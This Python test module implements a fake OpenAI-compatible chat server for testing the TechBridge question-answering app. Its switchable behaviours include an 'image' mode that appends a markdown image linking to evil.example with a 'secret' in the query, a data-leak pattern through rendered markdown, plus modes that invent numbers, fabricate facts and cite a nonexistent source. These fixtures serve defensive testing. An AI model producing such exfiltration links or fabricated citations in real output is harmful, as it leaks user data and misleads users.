"""A stand-in for an OpenAI-compatible chat server, for tests: real HTTP on loopback, the real wire format,
and answers worked out from the prompt rather than canned.

What it does with a chat completion request (POST /v1/chat/completions):
- reads the `<sources>` block TechBridge sends (prompts/answer_user.txt, prompts/source.txt): numbered
  sources `[n] title (kind, date)` with their text between triple quotes, then `Question: ...`;
- picks the source sentence sharing the most content words with the question (English: words without
  stop words; Chinese: character bigrams) and answers by quoting it with that source's number, `"..." [n]`;
- answers exactly `NO_ANSWER` (bot/chat/generative.py REFUSAL_MARKER) when no sentence shares a content
  word with the question;
- a rewrite request (prompts/rewrite_user.txt: a `<conversation>` block, then `Message: ...`) is answered
  by resolving the message's pronoun to the last name of the conversation: "it", "its", "they", "them",
  "their", "that one" / 它, 它们, 其, 该, 这个, 那个, 那里 become the last name a user turn gave (else the
  last an assistant turn gave): capitalized words ("Dalian University of Technology") or a city of
  retrieval/fields.py (大连, 辽阳市); a message without a pronoun, or a conversation without a name, comes
  back unchanged;
- replies as JSON (`chat.completion`) or, with `"stream": true`, as server-sent events: `data: {...}\\n\\n`
  `chat.completion.chunk`s of a few characters each (so citations and links are split across chunks), then
  `data: [DONE]`.

Switches (a behaviour), chosen per request by the model name `fake:<behaviour>` or for all requests by
`POST /_control {"behaviour": ..., "delay_s": ...}` (or `FakeLLM.switch`):
    answer     the semantic answer (default)
    wordy      talks around it, as small models do: "According to the sources, ..." and, refusing,
               "The sources do not say. NO_ANSWER"
    bad-cite   also cites [9], a source that does not exist
    image      appends a markdown image pointing at evil.example with a "secret" in its query
    error-500 / error-429 / error-401   the HTTP status with an OpenAI-style error body
    slow       waits `delay_s` (default 6 s) before answering: longer than a short client timeout
    stall      streams half the answer, then waits `delay_s` before the rest
    invent     quotes the sentence with each of its numbers one higher (4,016 -> 4,017), a model misquoting
    embellish  quotes the sentence, then adds one it made up: "It also holds 9,999 patents [n]."
    empty      replies with nothing at all (to a rewrite request too)
  To a rewrite request `wordy` replies with one long chatty line around the question, and the others
  except the errors and `empty` answer it as `answer` does.

Every request is recorded in `FakeLLM.requests` (model, stream flag, messages, behaviour, auth header).
Run it by hand with `python -m tests.fake_llm [port]`.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

__all__ = [
    "BEHAVIOURS",
    "EVIL_IMAGE",
    "REFUSAL",
    "FakeChatModel",
    "FakeLLM",
    "best_sentence",
    "parse_prompt",
    "parse_rewrite",
]

REFUSAL = "NO_ANSWER"  # bot/chat/generative.py REFUSAL_MARKER; the test checks they agree
EVIL_IMAGE = "![x](http://evil.example/?q=secret)"
BEHAVIOURS = (
    "answer",
    "wordy",
    "bad-cite",
    "image",
    "error-500",
    "error-429",
    "error-401",
    "slow",
    "stall",
    "invent",
    "embellish",
    "empty",
)
_ERRORS = {
    "error-500": (500, "The server had an error while processing your request.", "server_error", None),
    "error-429": (429, "Rate limit reached for requests.", "requests", "rate_limit_exceeded"),
    "error-401": (401, "Incorrect API key provided.", "invalid_request_error", "invalid_api_key"),
}

_SOURCE = re.compile(r'^\[(\d+)\] ([^\n]*)\n"""\n(.*?)\n"""$', re.M | re.S)
_SOURCES_BLOCK = re.compile(r"<sources>\n?(.*?)\n?</sources>", re.S)
_QUESTION = re.compile(r"^Question: (.*)\Z", re.M | re.S)
_SENTENCE_END = re.compile(r"(?<=[.!?])\s+(?=\S)|(?<=[。！？；])|\n+")
_WORD = re.compile(r"[a-z0-9]+(?:[.,][0-9]+)*")
_CJK_RUN = re.compile(r"[\u4e00-\u9fff]+")
_STOP_TEXT = (
    "a an the of in on at to for from by with and or but is are was were be been being has have had do does "
    "did what which who whom whose when where why how many much it its this that these those there their "
    "they them he she his her we our you your i me my can could should would will shall may might must not "
    "no yes any some all as about into over under than then so if also just more most other such only own "
    "same very s t tell please give list show"
)
_STOP_WORDS = frozenset(_STOP_TEXT.split())
# Function characters: a bigram containing one carries no topic ("的技", "有哪", "多少").
_STOP_CHARS = frozenset(
    "的了是有在和与及或吗呢么哪些什多少怎如何我们你请问能可以个这那为于也都就对把被从到吧"
)


def _terms(text: str) -> set[str]:
    text = text.lower()
    words = {
        w[:-1] if len(w) > 3 and w.endswith("s") and w[-2] != "s" else w
        for w in _WORD.findall(text)
        if w not in _STOP_WORDS
    }
    bigrams = {run[i : i + 2] for run in _CJK_RUN.findall(text) for i in range(len(run) - 1)}
    return words | {b for b in bigrams if not set(b) & _STOP_CHARS}


@dataclass(frozen=True)
class Source:
    n: int
    header: str
    text: str


def parse_prompt(messages: list[dict[str, Any]]) -> tuple[list[Source], str]:
    """The numbered sources and the question from the last user message (empty when absent)."""
    user = next((str(m.get("content") or "") for m in reversed(messages) if m.get("role") == "user"), "")
    block = _SOURCES_BLOCK.search(user)
    sources = (
        [Source(int(m.group(1)), m.group(2), m.group(3)) for m in _SOURCE.finditer(block.group(1))]
        if block
        else []
    )
    question = _QUESTION.search(user)
    return sources, (question.group(1).strip() if question else user.strip())


def best_sentence(sources: list[Source], question: str) -> tuple[int, str] | None:
    """(source number, sentence) sharing the most question terms; ties go to the better-ranked source."""
    wanted = _terms(question)
    best: tuple[int, int, str] | None = None  # (overlap, -n, sentence)
    for source in sources:
        for sentence in _SENTENCE_END.split(source.text):
            sentence = sentence.strip()
            overlap = len(wanted & _terms(sentence))
            if sentence and overlap and (best is None or (overlap, -source.n) > best[:2]):
                best = (overlap, -source.n, sentence)
    return (-best[1], best[2]) if best else None


def answer_text(messages: list[dict[str, Any]], behaviour: str) -> str:
    if behaviour == "empty":
        return ""
    rewrite = parse_rewrite(messages)
    if rewrite is not None:
        return rewrite_text(*rewrite, behaviour)
    sources, question = parse_prompt(messages)
    found = best_sentence(sources, question)
    if found is None:
        return f"The sources do not say. {REFUSAL}" if behaviour == "wordy" else REFUSAL
    n, sentence = found
    if behaviour == "invent":
        sentence = re.sub(r"\d[\d,]*", lambda m: f"{int(m.group().replace(',', '')) + 1:,}", sentence)
    text = f'"{sentence}" [{n}]'
    if behaviour == "wordy":
        text = f"According to the sources, {text}"
    if behaviour == "bad-cite":
        text += "[9]"
    elif behaviour == "image":
        text += f"\n\n{EVIL_IMAGE}"
    elif behaviour == "embellish":
        text += f" It also holds 9,999 patents [{n}]."
    return text


# ---- rewriting a follow-up -----------------------------------------------------------------------------
_CONVERSATION = re.compile(r"<conversation>\n?(.*?)\n?</conversation>", re.S)
_MESSAGE = re.compile(r"^Message: (.*)\Z", re.M | re.S)
_TURN = re.compile(r"^(User|Assistant|Topic): (.*)$", re.M)
# Capitalized words, with "of", "for", "and", "the" between them: "Dalian University of Technology".
_NAME_EN = re.compile(r"[A-Z][\w'-]*(?:(?: (?:of|for|and|the))* [A-Z][\w'-]*)*")
_NOT_NAMES = frozenset(
    re.findall(
        r"\w+",
        "What Which Who Where When How Why Is Are Does Do Did Can Could Tell Show List Please The A An I We "
        "Here Sorry Yes No And In On Of For It",
    )
)
_PRONOUN_EN = re.compile(r"\b(its|their|it|they|them|that one|this one)\b", re.I)
_PRONOUN_ZH = re.compile(r"它们|它|其|该|这个|那个|那里")


def parse_rewrite(messages: list[dict[str, Any]]) -> tuple[str, str] | None:
    """(conversation, message) of a rewrite request, or None for any other request."""
    user = next((str(m.get("content") or "") for m in reversed(messages) if m.get("role") == "user"), "")
    block, message = _CONVERSATION.search(user), _MESSAGE.search(user)
    return (block.group(1), message.group(1).strip()) if block and message else None


def _names(text: str) -> list[str]:
    from retrieval.fields import CITIES

    found: list[tuple[int, str]] = []
    for m in _NAME_EN.finditer(text):
        words = m.group().split(" ")
        while words and words[0] in _NOT_NAMES:
            words = words[1:]
        if words:
            found.append((m.end(), " ".join(words)))
    for zh, _ in CITIES.values():
        for m in re.finditer(zh + "市?", text):
            found.append((m.end(), m.group()))
    return [name for _, name in sorted(found)]


def last_name(conversation: str) -> str | None:
    """The last name a user turn (or the topic) gave, else the last an assistant turn gave."""
    turns = _TURN.findall(conversation)
    for roles in (("User", "Topic"), ("Assistant",)):
        names = [name for role, text in turns if role in roles for name in _names(text)]
        if names:
            return names[-1]
    return None


def rewrite_text(conversation: str, message: str, behaviour: str) -> str:
    name = last_name(conversation)
    standalone = message
    if name is not None:

        def resolve(m: re.Match[str]) -> str:
            return f"{name}'s" if m.group().lower() in ("its", "their") else name

        standalone = _PRONOUN_ZH.sub(name, _PRONOUN_EN.sub(resolve, message))
    if behaviour == "wordy":
        return (
            f"Sure! Replacing the reference with what it points at in the conversation above ({name}), and "
            f"keeping everything else the user said, the standalone question reads: {standalone}"
        )
    return standalone


@dataclass
class FakeLLM:
    """The server's state and app. `with FakeLLM().running() as fake:` serves it on a free loopback port."""

    behaviour: str = "answer"
    delay_s: float = 6.0
    requests: list[dict[str, Any]] = field(default_factory=list)
    port: int = 0

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def switch(self, behaviour: str = "answer", delay_s: float | None = None) -> None:
        if behaviour not in BEHAVIOURS:
            raise ValueError(f"unknown behaviour {behaviour!r}; valid: {', '.join(BEHAVIOURS)}")
        self.behaviour = behaviour
        if delay_s is not None:
            self.delay_s = delay_s
        self.requests.clear()

    # ---- HTTP ------------------------------------------------------------------------------------
    async def _completions(self, request: Request) -> Response:
        try:
            body = await request.json()
            messages = body["messages"]
            model = str(body["model"])
        except (ValueError, KeyError, TypeError):
            return _error(400, "invalid request body: need model and messages", "invalid_request_error", None)
        behaviour = model.partition(":")[2] or self.behaviour
        if behaviour not in BEHAVIOURS:
            return _error(
                404, f"The model `{model}` does not exist", "invalid_request_error", "model_not_found"
            )
        stream = bool(body.get("stream"))
        self.requests.append(
            {
                "model": model,
                "stream": stream,
                "messages": messages,
                "behaviour": behaviour,
                "authorization": request.headers.get("authorization"),
                "max_tokens": body.get("max_tokens"),
                "temperature": body.get("temperature"),
            }
        )
        if behaviour in _ERRORS:
            status, message, kind, code = _ERRORS[behaviour]
            # A short retry-after keeps the client's one retry quick (it honours the header up to 60 s).
            headers = {"retry-after-ms": "20"} if status == 429 else {}
            return _error(status, message, kind, code, headers)
        if behaviour == "slow":
            await asyncio.sleep(self.delay_s)
        text = answer_text(messages, behaviour)
        cid, created = f"chatcmpl-{uuid.uuid4().hex[:24]}", int(time.time())
        if not stream:
            return JSONResponse(
                {
                    "id": cid,
                    "object": "chat.completion",
                    "created": created,
                    "model": model,
                    "system_fingerprint": None,
                    "choices": [
                        {
                            "index": 0,
                            "message": {"role": "assistant", "content": text, "refusal": None},
                            "logprobs": None,
                            "finish_reason": "stop",
                        }
                    ],
                    "usage": {
                        "prompt_tokens": _count(messages),
                        "completion_tokens": len(text.split()),
                        "total_tokens": _count(messages) + len(text.split()),
                    },
                }
            )
        include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
        return StreamingResponse(
            self._chunks(cid, created, model, text, behaviour, include_usage),
            media_type="text/event-stream",
            headers={"cache-control": "no-cache"},
        )

    async def _chunks(
        self, cid: str, created: int, model: str, text: str, behaviour: str, include_usage: bool
    ) -> AsyncIterator[str]:
        def chunk(delta: dict[str, Any], finish: str | None = None, **extra: Any) -> str:
            payload = {
                "id": cid,
                "object": "chat.completion.chunk",
                "created": created,
                "model": model,
                "system_fingerprint": None,
                "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
                **extra,
            }
            return f"data: {json.dumps(payload, ensure_ascii=False)}\n\n"

        yield chunk({"role": "assistant", "content": ""})
        # Four characters a chunk: "[12]" and "![x](http://...)" arrive in pieces, as with real tokenizers.
        starts = range(0, len(text), 4)
        for i, start in enumerate(starts):
            if behaviour == "stall" and i == len(starts) // 2:  # half the answer is out: then silence
                await asyncio.sleep(self.delay_s)
            yield chunk({"content": text[start : start + 4]})
            await asyncio.sleep(0)
        yield chunk({}, "stop")
        if include_usage:
            usage = {"prompt_tokens": 0, "completion_tokens": len(text.split()), "total_tokens": 0}
            yield f"data: {json.dumps({**json.loads(chunk({})[6:]), 'choices': [], 'usage': usage})}\n\n"
        yield "data: [DONE]\n\n"

    async def _models(self, request: Request) -> Response:
        data = [
            {
                "id": f"fake:{b}" if b != "answer" else "fake",
                "object": "model",
                "created": 0,
                "owned_by": "tests",
            }
            for b in BEHAVIOURS
        ]
        return JSONResponse({"object": "list", "data": data})

    async def _control(self, request: Request) -> Response:
        body = await request.json()
        try:
            self.switch(str(body.get("behaviour", "answer")), body.get("delay_s"))
        except ValueError as exc:
            return JSONResponse({"detail": str(exc)}, status_code=422)
        return JSONResponse({"behaviour": self.behaviour, "delay_s": self.delay_s})

    def app(self) -> Starlette:
        return Starlette(
            routes=[
                Route("/v1/chat/completions", self._completions, methods=["POST"]),
                Route("/v1/models", self._models, methods=["GET"]),
                Route("/_control", self._control, methods=["POST"]),
            ]
        )

    @contextmanager
    def running(self) -> Iterator[FakeLLM]:
        from tests.support.servers import serve

        with serve(self.app()) as port:
            self.port = port
            yield self


def _error(
    status: int, message: str, kind: str, code: str | None, headers: dict[str, str] | None = None
) -> JSONResponse:
    return JSONResponse(
        {"error": {"message": message, "type": kind, "param": None, "code": code}},
        status_code=status,
        headers=headers,
    )


@dataclass
class FakeChatModel:
    """The same answers in process, behind bot/chat/llm.py's ChatModel protocol, for unit tests of what
    TechBridge makes of a reply. It fails as OpenAIChatModel does: the error behaviours raise UpstreamError
    before any text, `stall` after half of it (the client's read timeout); `slow` answers at once."""

    behaviour: str = "answer"
    name: str = "fake"
    requests: list[list[dict[str, Any]]] = field(default_factory=list)

    def _check(self, messages: list[dict[str, Any]]) -> None:
        from retrieval.errors import UpstreamError

        if self.behaviour not in BEHAVIOURS:
            raise ValueError(f"unknown behaviour {self.behaviour!r}; valid: {', '.join(BEHAVIOURS)}")
        self.requests.append(messages)
        if self.behaviour in _ERRORS:
            status, message, _, _ = _ERRORS[self.behaviour]
            raise UpstreamError(f"LLM endpoint failed: HTTP {status}: {message}")

    def complete(self, messages: list[dict[str, str]]) -> str:
        self._check(messages)
        return answer_text(messages, self.behaviour)

    def stream(self, messages: list[dict[str, str]]) -> Iterator[str]:
        from retrieval.errors import UpstreamError

        self._check(messages)
        text = answer_text(messages, self.behaviour)
        pieces = [text[start : start + 4] for start in range(0, len(text), 4)]
        for i, piece in enumerate(pieces):
            if self.behaviour == "stall" and i == len(pieces) // 2:
                raise UpstreamError("LLM endpoint failed: ReadTimeout: The read operation timed out")
            yield piece


def _count(messages: list[dict[str, Any]]) -> int:
    return sum(len(str(m.get("content", "")).split()) for m in messages)


if __name__ == "__main__":  # pragma: no cover - manual use: point TECHBRIDGE_LLM__BASE_URL at it
    import sys

    import uvicorn

    port = int(sys.argv[1]) if len(sys.argv) > 1 else 8089
    print(f"fake LLM on http://127.0.0.1:{port}/v1 (model 'fake' or 'fake:<behaviour>')")
    uvicorn.run(FakeLLM().app(), host="127.0.0.1", port=port, log_level="info")
